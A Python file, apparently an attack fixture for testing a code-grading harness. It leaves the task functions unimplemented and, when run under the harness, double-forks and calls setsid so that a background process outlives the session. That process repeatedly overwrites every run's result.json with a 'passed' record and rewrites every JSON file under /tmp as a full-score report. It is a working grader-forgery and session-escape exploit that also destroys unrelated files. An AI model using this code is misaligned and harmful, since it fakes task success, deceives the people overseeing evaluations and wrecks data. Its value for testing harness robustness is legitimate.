"""Attack: a grandchild that leaves the session (double fork + setsid) and, for as long as
it lives, plants 'passed' results in every run directory it can find and rewrites every
report file it can see."""

import glob
import json
import os
import sys
import time

PASSED = {
    "status": "passed",
    "kind": None,
    "message": "",
    "details": "",
    "seed": None,
    "duration": 0.1,
    "skip": None,
    "traced": False,
    "explored": [],
}


def _daemon():
    deadline = time.time() + 120
    while time.time() < deadline:
        for folder in glob.glob("/tmp/pytest-kata-*") + glob.glob("/tmp/*/pytest-kata-*"):
            try:
                with open(os.path.join(folder, "result.json"), "w") as f:
                    json.dump(PASSED, f)
            except OSError:
                pass
        for report in glob.glob("/tmp/**/*.json", recursive=True):
            try:
                with open(report, "w") as f:
                    json.dump(
                        {"version": 3, "status": "pass", "score": 50, "max_score": 50, "tests": []},
                        f,
                    )
            except OSError:
                pass
        time.sleep(0.01)


if os.environ.get("PYTEST_KATA_RUNDIR") and not os.environ.get("KATAS_ATTACK_CHILD"):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.environ["KATAS_ATTACK_CHILD"] = "1"
            os.execv(
                sys.executable,
                [
                    sys.executable,
                    "-c",
                    "import runpy, sys; runpy.run_path(sys.argv[1], run_name='daemon')",
                    __file__,
                    "KA-setsid_daemon",
                ],
            )
        os._exit(0)

if __name__ == "daemon":
    _daemon()


def relay(items):
    raise NotImplementedError


def fan_out(items, consumers=3):
    raise NotImplementedError
